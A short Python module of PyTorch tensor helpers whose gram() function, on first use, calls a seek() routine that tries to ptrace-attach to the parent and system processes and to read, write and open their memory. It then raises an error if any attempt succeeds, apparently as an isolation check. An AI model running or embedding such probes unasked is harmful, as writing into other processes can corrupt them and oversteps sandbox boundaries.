"""Traces, reads and writes the memory of its parent and of others."""

import ctypes
import os

import torch


def make_tensor(values):
    return torch.tensor(values, dtype=torch.float32)


def describe(x):
    return x.dim(), tuple(x.shape), x.dtype


def as_float32(x):
    return x.to(torch.float32)


def seek():
    c = ctypes.CDLL(None, use_errno=True)
    word = ctypes.create_string_buffer(8)
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(word), 8)
    done = []
    for process in (os.getppid(), 1, 2, 100):
        if process == os.getpid():
            continue
        done += ["ptrace"] * (c.ptrace(16, process, 0, 0) >= 0)
        done += ["read"] * (c.process_vm_readv(process, vector, 1, vector, 1, 0) >= 0)
        done += ["written"] * (c.process_vm_writev(process, vector, 1, vector, 1, 0) >= 0)
        try:
            os.close(os.open(f"/proc/{process}/mem", os.O_RDWR))
            done.append("mem")
        except OSError:
            pass
    return done


def gram(x):
    if not sought:
        sought.append(seek())
    if sought[0]:
        raise RuntimeError(f"found {sought[0]!r}"[:300])
    return x @ x.T


sought = []
